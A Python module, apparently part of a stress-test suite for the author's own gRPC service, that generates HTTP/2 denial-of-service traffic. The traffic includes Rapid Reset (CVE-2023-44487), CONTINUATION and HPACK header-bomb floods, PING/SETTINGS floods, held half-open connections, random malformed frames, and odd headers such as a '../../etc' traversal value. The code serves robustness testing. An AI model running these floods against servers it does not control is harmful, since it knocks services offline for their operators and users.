"""Floods and invalid data below gRPC."""

import random
import socket
import struct
import time

import service
from raw_client import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, header_block, request_headers, varint)
from suite import attack
from wire import Connection


def flood(report, seconds, frames_of):
    """Sends what `frames_of(turn)` gives, a few hundred frames a turn, for so long; with a new
    connection whenever the server has closed one."""
    end = time.monotonic() + max(1.0, seconds * report.scale)
    turn = closed = 0
    connection = Connection(report.address)
    while time.monotonic() < end:
        connection.write(frames_of(turn, connection))
        connection.pump()
        turn += 1
        if connection.is_closed:
            closed += 1
            connection.close()
            connection = Connection(report.address)
    connection.close()
    report.notes.append(f"{turn} turns, {closed} connections closed")


# libgrpc keeps what it read of a connection until the watch resets that connection. The faster the machine, the
# more it has read by then: 124 to 333 MB were seen.
@attack(memory=384)
def rapid_reset(report):
    """Calls that are reset as soon as they are open (CVE-2023-44487)."""
    headers = request_headers(service.PROCESS)

    def frames(turn, connection):
        data = b""
        for _ in range(200):
            stream = connection.next_stream
            connection.next_stream += 2
            data += frame(HEADERS, END_HEADERS, stream, headers)
            data += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        return data

    flood(report, 10, frames)


@attack()
def pings(report):
    """PINGs without end. The client does not wait for the answers."""
    flood(report, 10, lambda *_: frame(PING, 0, 0, b"12345678") * 300)


@attack()
def setting_changes(report):
    """SETTINGS without end. The server must acknowledge each of them."""
    def frames(turn, connection):
        return b"".join(
            frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (turn * 300 + n) % 2**31))
            for n in range(300))
    flood(report, 10, frames)


@attack(memory=64)
def continuations(report):
    """A header block that never ends (CVE-2024-27316)."""
    piece = header_block([("x-" + "n" * 50, "v" * 4000)]) * 3

    def frames(turn, connection):
        connection.next_stream += 2
        stream = connection.next_stream
        return (frame(HEADERS, 0, stream, request_headers(service.PROCESS))
                + frame(CONTINUATION, 0, stream, piece) * 50)

    flood(report, 10, frames)


@attack(memory=64)
def header_bomb(report):
    """A header of 3 kB in the table, which each block names ten thousand times."""
    entry = b"\x40\x01a\x7f" + varint(3000 - 127) + b"v" * 3000

    def frames(turn, connection):
        connection.next_stream += 2
        block = request_headers(service.PROCESS) + entry + b"\xbe" * 12_000
        return frame(HEADERS, END_HEADERS, connection.next_stream, block)

    flood(report, 5, frames)


@attack()
def frames_of_nothing(report):
    """Empty DATA, PRIORITY and WINDOW_UPDATE frames without end."""
    def frames(turn, connection):
        if turn == 0 or not connection.calls:
            connection.call(service.PROCESS)
        stream = connection.next_stream - 2
        return (frame(DATA, 0, stream) * 100
                + frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") * 100
                + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\x01") * 100)
    flood(report, 10, frames)


@attack(memory=64)
def half_open_connections(report):
    """Connections that stop at a point of the handshake and stay open."""
    host, port = report.address.rsplit(":", 1)
    headers = frame(HEADERS, END_HEADERS, 1, request_headers(service.PROCESS))
    beginnings = [
        b"", b"P", PREFACE[:20], PREFACE, PREFACE + frame(SETTINGS, 0, 0)[:5],
        PREFACE + frame(SETTINGS, 0, 0),
        PREFACE + frame(SETTINGS, 0, 0) + headers[:30],
        PREFACE + frame(SETTINGS, 0, 0) + headers,
        PREFACE + frame(SETTINGS, 0, 0) + headers + frame(DATA, 0, 1, b"\0\0\0\0\x10abc"),
    ]
    peers = []
    for index in range(report.count(900, least=180)):
        peer = socket.create_connection((host, int(port)), timeout=5)
        peer.sendall(beginnings[index % len(beginnings)])
        peers.append(peer)
    status, _ = Connection(report.address).unary(service.CAPABILITIES, b"")
    report.expect(status == 0, f"beside {len(peers)} half-open connections: {status}")
    time.sleep(max(1, 10 * report.scale))
    for peer in peers:
        peer.close()


@attack(memory=64)
def malformed_frames(report):
    """Connections with invalid bytes, frames, header blocks, lengths and streams."""
    generator = random.Random(4)
    pseudo = request_headers(service.PROCESS)
    for turn in range(report.count(3000, least=300)):
        connection = Connection(report.address, reads=False)
        for _ in range(generator.randrange(1, 30)):
            act = generator.randrange(6)
            stream = generator.choice([0, 1, 2, 3, 5, 2**31 - 1, 2**31 + 1])
            if act == 0:
                data = generator.randbytes(generator.randrange(1, 300))
            elif act == 1:
                data = frame(generator.randrange(12), generator.randrange(256), stream,
                             generator.randbytes(generator.randrange(40)))
            elif act == 2:
                block = bytearray(pseudo)
                block[generator.randrange(len(block))] ^= 1 << generator.randrange(8)
                data = frame(HEADERS, END_HEADERS, stream, bytes(block))
            elif act == 3:
                data = struct.pack(">I", generator.randrange(1 << 24))[1:] + generator.randbytes(6)
            elif act == 4:
                data = frame(WINDOW_UPDATE, 0, stream, struct.pack(
                    ">I", generator.choice([0, 1, 2**31 - 1, 2**32 - 1])))
            else:
                data = frame(DATA, generator.randrange(256), stream, struct.pack(
                    ">BI", generator.randrange(256), generator.choice([0, 1, 2**22, 2**32 - 1])))
            connection.write(data)
        connection.close()


@attack(memory=64)
def odd_headers(report):
    """Calls with headers that gRPC does not know, of every size and kind."""
    generator = random.Random(5)
    odd = [
        ("grpc-timeout", "99999999H"), ("grpc-timeout", "1n"), ("grpc-timeout", "-1S"),
        ("grpc-encoding", "snappy"), ("grpc-encoding", "deflate"), ("content-length", "5"),
        ("anechoic-client", "\u00e9\u4e2d" * 200), ("anechoic-client", b"\xff\xfe\0"),
        ("anechoic-client", "x" * 6000), ("anechoic-session", "../../etc"),
        ("grpc-status-details-bin", b"\xff\xff"), ("x-bin", "!!!!"), ("te", "gzip"),
        (":path", "/again"), ("content-type", "text/html"), ("connection", "close"),
        ("grpc-accept-encoding", ",,,,gzip;q=2"), ("x" * 3000, "y" * 3000), ("", ""),
        ("UPPER", "case"), ("x", "y" * 30_000),
    ]
    connection = Connection(report.address)
    for turn in range(report.count(10_000, least=1000)):
        if connection.is_closed or turn % 50 == 49:
            connection.close()
            connection = Connection(report.address)
        call = connection.call(
            generator.choice([service.PROCESS, service.HEALTH, service.SESSIONS + "SetMute"]),
            generator.choices(odd, k=generator.randrange(1, 4)))
        call.send(generator.choice([b"", service.start(), service.set_mute("honest", True)]),
                  end=True, timeout=0.1, flag=generator.choice([0, 0, 1, 255]))
        connection.pump()
    connection.close()
